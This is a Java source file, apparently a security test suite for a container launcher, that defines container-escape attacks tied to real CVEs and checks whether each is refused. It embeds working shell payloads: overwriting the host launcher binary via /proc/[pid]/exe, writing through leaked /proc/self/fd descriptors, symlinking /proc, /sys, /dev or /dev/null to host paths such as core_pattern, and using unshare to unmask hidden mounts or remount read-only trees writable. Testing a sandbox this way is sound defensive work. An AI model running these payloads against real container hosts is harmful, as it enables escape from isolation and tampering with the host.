package dev.belljar;

import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

/** The attacks that need no race: the tree is prepared, then a container is started on it. */
final class Attacks {
  static final String HARM = "pwned";

  /**
   * Ways to see what a mount covers, with the capabilities at hand and with those of a new USER.
   */
  private static final String UNCOVER =
      """
      trial() {
        umount -l /etc/hidden; cat /etc/hidden
        mount -o bind /etc /tmp; cat /tmp/hidden
        umount -l /tmp; mount -o move /etc/hidden /tmp; cat /etc/hidden
        umount -l /
        cat /etc/hidden
      }
      [ "$1" = inner ] && { trial; exit; }
      trial 2>&1
      unshare -U -r -m /bin/sh "$0" inner 2>&1
      """;

  private static final String WRITE =
      """
      trial() {
        mount -o remount,bind,rw /; echo %1$s > /etc/file
        mount -o bind / /tmp; mount -o remount,bind,rw /tmp; echo %1$s > /tmp/etc/file
      }
      [ "$1" = inner ] && { trial; exit; }
      trial 2>&1
      unshare -U -r -m /bin/sh "$0" inner 2>&1
      """
          .formatted(HARM);

  private Attacks() {}

  static List<Attack> all() {
    return Stream.of(links(), descriptors(), kernel(), MountAttacks.all(), FileAttacks.all())
        .flatMap(List::stream)
        .toList();
  }

  /** Links in the tree, where the launcher expects directories and devices. */
  private static List<Attack> links() {
    return List.of(
        Attack.of(
                "/proc is a link to a tree of lies",
                "CVE-2019-19921",
                "CVE-2023-27561",
                "CVE-2023-28642",
                "CVE-2025-52881",
                "CVE-2019-16884")
            .prepared(scene -> {
              scene.link(scene.root().resolve("proc"), scene.victim());
              scene.write(scene.inside(scene.victim()).resolve(Wanted.SYSCTL_FILE), "");
            })
            .wanting(scene -> Wanted.sh(scene, "true").sysctl())
            .lostWhen((scene, output) ->
                !Scene.read(scene.inside(scene.victim()).resolve(Wanted.SYSCTL_FILE)).isEmpty())
            .refusedAs("/proc in the root directory must be a directory, not a link"),
        Attack.of("/sys is a link to the host", "CVE-2019-19921", "CVE-2023-27561")
            .prepared(scene -> scene.link(scene.root().resolve("sys"), scene.victim()))
            .wanting(scene -> Wanted.sh(scene, "true").forgettingPropagation())
            .lostWhen((scene, output) -> AttackHost.mounts().contains(" " + scene.victim() + " "))
            .amongSharedMounts()
            .refusedAs("/sys in the root directory must be a directory, not a link"),
        Attack.of("/dev is a link to the host", "CVE-2026-41579")
            .prepared(scene -> scene.link(scene.root().resolve("dev"), scene.victim()))
            .refusedAs("/dev in the root directory must be a directory, not a link"),
        Attack.of(
                "/dev/null, to be mounted over what is hidden, is a link to the host",
                "CVE-2025-31133")
            .prepared(scene -> {
              scene.link(scene.root().resolve("dev/null"), RealTargets.corePattern(scene));
              scene.write(scene.root().resolve("etc/hidden"), "");
            })
            .wanting(
                scene -> Wanted.sh(scene, "echo " + HARM + " > /etc/hidden").hide("/etc/hidden"))
            .lostWhen((scene, output) -> RealTargets.isCorePatternHarmed(scene)),
        Attack.of(
                "/dev/pts/0, to be mounted on the console, is a link to the host", "CVE-2025-52565")
            .prepared(scene -> {
              scene.write(scene.root().resolve("dev/pts/ptmx"), "");
              scene.link(scene.root().resolve("dev/pts/0"), RealTargets.corePattern(scene));
            })
            .wanting(scene -> Wanted.sh(scene, "echo " + HARM + " > /dev/console").terminal())
            .lostWhen((scene, output) -> RealTargets.isCorePatternHarmed(scene)),
        Attack.of("what is to be hidden is a link to the host")
            .prepared(scene -> {
              scene.link(scene.root().resolve("etc/hidden"), scene.victim().resolve("secret"));
              scene.write(scene.inside(scene.victim()).resolve("secret"), "");
              scene.addToVictim("secret");
            })
            .wanting(
                scene -> Wanted.sh(scene, "echo " + HARM + " > /etc/hidden").hide("/etc/hidden"))
            .lostWhen((scene, output) ->
                !Scene.read(scene.inside(scene.victim()).resolve("secret")).isEmpty()));
  }

  /** What the launcher has open, or is. */
  private static List<Attack> descriptors() {
    return List.of(
        Attack.of("a directory that the launcher has open", "CVE-2024-21626")
            .wanting(scene ->
                Wanted.sh(
                        scene,
                        "for d in /proc/self/fd/*; do echo %s > $d/canary; done".formatted(HARM))
                    .leak(scene.victim())),
        Attack.of("a working directory that is a descriptor of the launcher", "CVE-2024-21626")
            .wanting(scene ->
                Wanted.sh(scene, "echo " + HARM + " > canary")
                    .leak(scene.victim())
                    .folder("/proc/self/fd/7"))
            .refusedAs("change to the working directory"),
        Attack.of("a working directory that is a link to a descriptor", "CVE-2024-21626")
            .prepared(scene -> scene.link(scene.root().resolve("work"), "/proc/self/fd/7"))
            .wanting(scene ->
                Wanted.sh(scene, "echo " + HARM + " > canary").leak(scene.victim()).folder("/work"))
            .refusedAs("change to the working directory"),
        Attack.of("the program of the launcher, through /proc", "CVE-2019-5736")
            .prepared(Scene::makeLauncher)
            .wanting(scene ->
                Wanted.sh(scene, overwriting(RealTargets.launcher(scene)))
                    .launcher(RealTargets.launcher(scene)))
            .lostWhen((scene, output) ->
                RealTargets.isLauncherHarmed(scene) || output.contains("overwritten")));
  }

  /**
   * Opens the launcher's program, and writes to it when it has ended. The kernel refuses that as
   * long as it runs. It touches no other program of the machine, of which the naive launcher passes
   * through some.
   */
  private static String overwriting(Path launcher) {
    return """
    for scan in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
      for exe in /proc/[0-9]*/exe; do
        case $(readlink $exe) in
          %s | /memfd:*) exec 9< $exe && break 2 ;;
        esac
      done
      sleep 0.02
    done
    for try in 1 2 3 4 5 6 7 8; do
      { echo %s > /proc/self/fd/9; } 2> /dev/null && echo overwritten && break
      sleep 0.1
    done
    """
        .formatted(launcher, HARM);
  }

  /** What the kernel shows as files. */
  private static List<Attack> kernel() {
    return List.of(
        Attack.of("mounts that reach the host")
            .wanting(scene -> Wanted.sh(scene, "true").forgettingPropagation())
            .lostWhen((scene, output) -> output.contains(AttackHost.MOUNTS_CHANGED))
            .amongSharedMounts(),
        Attack.of("detaching what hides a file", "CVE-2014-9717")
            .prepared(scene -> {
              scene.write(scene.root().resolve("etc/hidden"), Scene.SECRET);
              scene.script(scene.root().resolve("bin/trial"), UNCOVER);
            })
            .wanting(scene -> Wanted.command(scene, "/bin/sh", "/bin/trial").hide("/etc/hidden"))
            .lostWhen((scene, output) -> output.contains(Scene.SECRET)),
        Attack.of("making a read-only tree writable")
            .prepared(scene -> {
              scene.write(scene.root().resolve("etc/file"), "");
              scene.script(scene.root().resolve("bin/trial"), WRITE);
            })
            .wanting(scene -> Wanted.command(scene, "/bin/sh", "/bin/trial").readOnly())
            .lostWhen((scene, output) -> !Scene.read(scene.root().resolve("etc/file")).isEmpty()),
        GroupAttack.attack());
  }
}
